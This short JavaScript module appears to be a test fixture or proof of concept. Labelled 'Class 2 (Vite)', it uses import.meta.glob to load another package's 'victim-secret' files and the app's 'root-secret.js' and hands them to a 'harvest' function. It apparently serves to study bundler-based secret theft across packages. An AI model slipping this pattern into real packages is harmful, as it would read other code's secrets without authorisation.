import { harvest } from './harvest.js';
// Class 2 (Vite): import.meta.glob, which Vite expands into import() calls of the files it matches, here
// another package's files and the app's.
export async function collect() {
  const loaders = { ...import.meta.glob('../victim-secret/*.js'), ...import.meta.glob('../../src/root-secret.js') };
  const got = [];
  const failures = [];
  for (const load of Object.values(loaders)) {
    try {
      got.push(await load());
    } catch (error) {
      failures.push(String(error && error.message));
    }
  }
  if (got.length === 0) throw new Error(failures.join('; ') || 'the glob matched nothing');
  return harvest(got);
}
